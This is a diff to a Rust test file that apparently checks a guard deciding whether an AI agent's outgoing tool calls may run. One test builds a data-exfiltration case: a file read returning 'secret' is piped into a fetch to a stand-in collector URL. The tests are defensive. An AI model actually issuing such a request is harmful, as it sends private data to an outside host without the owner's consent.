@@ -37,8 +37,12 @@ fn begun(plan: Plan) -> World {
 impl World {
     /// Proposes a call that sends something out.
     fn sends(&mut self, id: &str, call: &str) -> Vec<Event> {
+        self.sends_out(id, call, outgoing())
+    }
+
+    fn sends_out(&mut self, id: &str, call: &str, leaves: Option<Box<Outgoing>>) -> Vec<Event> {
         let call = ToolCall { id: call.into(), tool: "fetch_url".into(), args: json!({ "url": "https://collector.example/" }) };
-        self.fact(id, WorkerFact::ToolAsked { call, verdict: Verdict::Allow, why: String::new(), leaves: outgoing() })
+        self.fact(id, WorkerFact::ToolAsked { call, verdict: Verdict::Allow, why: String::new(), leaves })
     }
 
     /// Makes a call that needs no yes, and gives its result.
@@ -191,10 +195,12 @@ fn a_host_that_only_the_planning_model_wrote_asks_once() {
 #[test]
 fn a_host_that_was_allowed_for_good_is_not_asked_about_and_a_piped_request_makes_all_private() {
     let nodes = || vec![read("a"), fetch("send", "https://collector.example/?d={{a}}", &["a"])];
-    let settings = RunSettings { hosts: vec![HOST.into()], ..open_settings() };
-    let mut world = World::with(plan(nodes()), settings);
-    world.runs("a", "read_file", json!("secret"));
-    assert!(starts(&world.sends("send", "c")));
+    for allowed in [true, false] {
+        let mut world = begun(plan(nodes()));
+        world.runs("a", "read_file", json!("secret"));
+        let leaves = outgoing().map(|outgoing| Box::new(Outgoing { allowed, ..*outgoing }));
+        assert_eq!(starts(&world.sends_out("send", "c", leaves)), allowed);
+    }
     let settings = RunSettings { private_request: true, ..open_settings() };
     let mut world = World::with(plan(vec![fetch("send", "https://collector.example/", &[])]), settings);
     assert!(!starts(&world.sends("send", "c")));
